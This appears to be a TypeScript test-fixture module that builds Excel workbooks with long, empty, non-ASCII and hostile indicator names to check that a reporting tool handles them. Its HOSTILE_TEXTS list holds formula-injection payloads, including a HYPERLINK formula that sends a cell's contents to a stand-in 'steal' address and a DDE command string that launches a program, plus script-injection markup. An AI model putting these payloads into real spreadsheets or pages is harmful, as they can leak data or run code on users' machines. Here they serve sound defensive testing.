/** Corpus workbooks whose faults are in the text: long, empty, hostile and non-ASCII names. */
import {
  type CorpusCase,
  HEALTHY_ROWS,
  HEALTHY_STATUSES,
  newWorkbook,
  type RowSpec,
  saveWorkbook,
  writeTable,
} from "./table";

const [healthy] = HEALTHY_ROWS;

/** 100 characters exactly, with spaces where a name would have them. */
export const HUNDRED_CHARACTER_NAME =
  "Percentage of children becoming subject to a child protection plan for a second or subsequent time".padEnd(
    100,
    "."
  );

export const longAndEmptyNames: CorpusCase = {
  id: "long-and-empty-names",
  fault: "100-character and empty names",
  build: async (dir) => {
    const workbook = newWorkbook();
    const rows: RowSpec[] = [
      ...HEALTHY_ROWS,
      { ...healthy, ref: "L1", indicator: HUNDRED_CHARACTER_NAME },
      { ...healthy, ref: "L2", indicator: "", q2: 86 },
      { ...healthy, ref: "L3", indicator: "   ", q2: 80 },
    ];
    writeTable(workbook.addWorksheet("Indicators"), rows);
    return saveWorkbook(workbook, `${dir}/long-and-empty-names.xlsx`);
  },
  expect: {
    exitCode: 0,
    statuses: {
      ...HEALTHY_STATUSES,
      L1: "onTarget",
      L2: "insideTolerance",
      L3: "outsideTolerance",
    },
  },
};

/** Text that a careless writer would turn into a formula, a link or markup. */
export const HOSTILE_TEXTS = [
  '=HYPERLINK("https://example.invalid/steal?d="&A1,"Click for details")',
  "+SUM(1,2)",
  "-2+3",
  "@SUM(A1:A2)",
  '<img src=x onerror="alert(1)">',
  "<script>alert('x')</script>",
  "=cmd|' /C calc'!A0",
  "\t=1+1",
] as const;

export const hostileText: CorpusCase = {
  id: "hostile-text",
  fault: "HTML and =/+/-/@-prefixed text in names, areas and refs",
  build: async (dir) => {
    const workbook = newWorkbook();
    const rows: RowSpec[] = HOSTILE_TEXTS.map((text, i) => ({
      ...healthy,
      ref: `H${i + 1}`,
      indicator: text,
    }));
    rows.push({ ...healthy, ref: "=H9", indicator: "Ref that looks like a formula", area: "=1+1" });
    rows.push({
      ...healthy,
      ref: "H10",
      indicator: "Area with markup",
      area: "<b onmouseover=alert(1)>Early Help</b>",
    });
    writeTable(workbook.addWorksheet("Indicators"), [...HEALTHY_ROWS, ...rows]);
    return saveWorkbook(workbook, `${dir}/hostile-text.xlsx`);
  },
  expect: {
    exitCode: 0,
    statuses: {
      ...HEALTHY_STATUSES,
      ...Object.fromEntries(HOSTILE_TEXTS.map((_, i) => [`H${i + 1}`, "onTarget" as const])),
      "=H9": "onTarget",
      H10: "onTarget",
    },
  },
};

export const NON_ASCII_SHEET = "Dangosyddion – Ch2 ŵ";

export const nonAsciiNames: CorpusCase = {
  id: "non-ascii",
  fault: "non-ASCII names and sheet name",
  args: ["--sheet", NON_ASCII_SHEET],
  build: async (dir) => {
    const workbook = newWorkbook();
    const rows: RowSpec[] = [
      {
        ...healthy,
        ref: "Ŵ1",
        indicator: "Amseroldeb asesiadau sengl – ŵyr ac wyresau",
        area: "Gwasanaethau Plant",
      },
      {
        ...healthy,
        ref: "Ü2",
        indicator: "Café naïve coöperation — ‘quotes’ “double”",
        area: "Éducation",
        q2: 86,
      },
      { ...healthy, ref: "日3", indicator: "児童 福祉 指標 😀", area: "Ελληνικά", q2: 70 },
      { ...healthy, ref: "ع4", indicator: "مؤشر الأداء", area: "עברית", q2: 95 },
    ];
    writeTable(workbook.addWorksheet(NON_ASCII_SHEET), rows);
    return saveWorkbook(workbook, `${dir}/non-ascii-naïve.xlsx`);
  },
  expect: {
    exitCode: 0,
    statuses: { Ŵ1: "onTarget", Ü2: "insideTolerance", 日3: "outsideTolerance", ع4: "onTarget" },
  },
};
